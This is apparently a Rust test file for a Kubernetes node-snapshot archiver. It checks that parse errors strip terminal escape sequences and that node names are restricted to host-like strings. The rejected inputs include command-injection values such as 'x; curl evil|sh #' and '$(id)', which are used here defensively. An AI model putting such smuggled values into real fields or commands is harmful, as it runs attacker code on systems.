//! Snapshots of nodes that can be taken elsewhere: they say the same as the node, and hold no secret.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

mod hidden;
mod same;

use kubecerts_core::archive::{Archive, Provenance, Recorder, Redaction};
use kubecerts_core::inventory::Inventory;
use kubecerts_core::observation::Observations;
use kubecerts_core::secret::SecretBytes;
use kubecerts_core::snapshot::{ScanRequest, TreeReader, collect};
use kubecerts_testkit::{MemoryTree, at};

/// Takes a snapshot of `tree`, and reads every file besides what a scan reads.
fn archive(tree: &MemoryTree, redaction: Redaction) -> (Archive, Inventory) {
    let mut reader = tree.clone();
    let mut recorder = Recorder::new(&mut reader, redaction);
    let inventory = Inventory::parse(&collect(&mut recorder, ScanRequest::default()));
    for (path, ..) in tree.files() {
        recorder.read(path);
    }
    let provenance = Provenance::new("cp-1", at("2026-06-01T00:00:00Z"), "1.2.3");
    (recorder.finish(provenance, Observations::none()), inventory)
}

/// Writes an archive down and reads it again.
fn again(archive: &Archive) -> Archive {
    let files = archive
        .files()
        .map(|(path, bytes, _)| (path.clone(), SecretBytes::new(bytes.secret_bytes().to_vec())))
        .collect();
    Archive::parse(archive.index().as_bytes(), files).unwrap()
}

#[test]
fn why_an_index_is_damaged_steers_no_terminal() {
    let (archive, _) = archive(&MemoryTree::default(), Redaction::Redact);
    let index = archive.index().replacen('{', r#"{"\u001b[31mred\nhint: do": 1,"#, 1);
    let error = Archive::parse(index.as_bytes(), std::collections::BTreeMap::new()).unwrap_err().to_string();
    assert!(error.contains("[31mred") && !error.chars().any(char::is_control), "{error:?}");
}

#[test]
fn a_node_is_called_what_a_host_can_be_called() {
    let (archive, _) = archive(&MemoryTree::default(), Redaction::Redact);
    let named = |name: &str| {
        let index = archive.index().replace("\"cp-1\"", &format!("{name:?}"));
        Archive::parse(index.as_bytes(), std::collections::BTreeMap::new())
            .map(|read| read.provenance().name.clone())
    };
    for name in ["cp-1", "Master_2.example.com", "unknown"] {
        assert_eq!(named(name).as_deref(), Ok(name));
    }
    for name in ["", "cp 1", "x; curl evil|sh #", "a\nhint: do", "kö", "$(id)"] {
        assert!(named(name).unwrap_err().to_string().contains("not that of a host"), "{name:?}");
    }
}
